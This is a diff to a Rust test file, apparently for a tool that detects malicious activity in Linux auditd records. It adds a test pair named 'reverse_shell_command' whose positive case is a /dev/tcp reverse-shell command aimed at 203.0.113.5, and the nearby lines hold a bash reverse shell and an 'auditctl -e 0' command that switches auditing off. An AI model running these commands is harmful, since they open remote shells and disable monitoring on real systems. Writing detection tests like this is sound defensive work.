@@ -344,6 +344,18 @@ fn linux(t: &Table) {
         &execve("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"),
         &execve("nc", "-z", "host 443"),
     );
+    // Records of one event, joined.
+    let joined = |a2: &str| {
+        let native = [
+            ("type", "SYSCALL\nEXECVE\nPATH"),
+            ("name", "/bin/bash\n/lib/ld.so"),
+            ("a0", "bash"),
+            ("a1", "-c"),
+            ("a2", a2),
+        ];
+        event(Format::Auditd, &native)
+    };
+    t.pair("reverse_shell_command", &joined("sh -i >& /dev/tcp/203.0.113.5/443"), &joined("true"));
     t.pair("audit_switched_off", &execve("auditctl", "-e", "0"), &execve("auditctl", "-l", "x"));
 }
 
